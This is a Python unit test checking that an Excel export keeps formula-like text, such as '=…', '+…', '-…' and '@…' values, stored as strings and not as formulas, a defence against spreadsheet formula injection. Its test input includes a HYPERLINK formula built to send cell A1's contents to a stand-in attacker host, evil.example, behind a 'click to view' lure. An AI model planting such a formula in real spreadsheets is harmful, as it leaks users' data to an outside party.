"""Excel formula injection (issue 12 item 8): a text that starts like a formula is exported as text."""

import io
import zipfile

from openpyxl import Workbook, load_workbook

from zonework.core.excel import workbook_bytes

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点击查看")'


def test_formula_like_texts_stay_text_and_negative_numbers_stay_numbers():
    wb = Workbook()
    wb.active.append([FORMULA, "+86 27 8888", "-3", "@SUM(A1)", -5, -2.5, "普通文本"])
    data = workbook_bytes(wb)
    sheet = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet  # no cell is a formula
    cells = [(c.value, c.data_type) for c in load_workbook(io.BytesIO(data)).active[1]]
    assert cells == [(FORMULA, "s"), ("+86 27 8888", "s"), ("-3", "s"), ("@SUM(A1)", "s"), (-5, "n"), (-2.5, "n"),
                     ("普通文本", "s")]
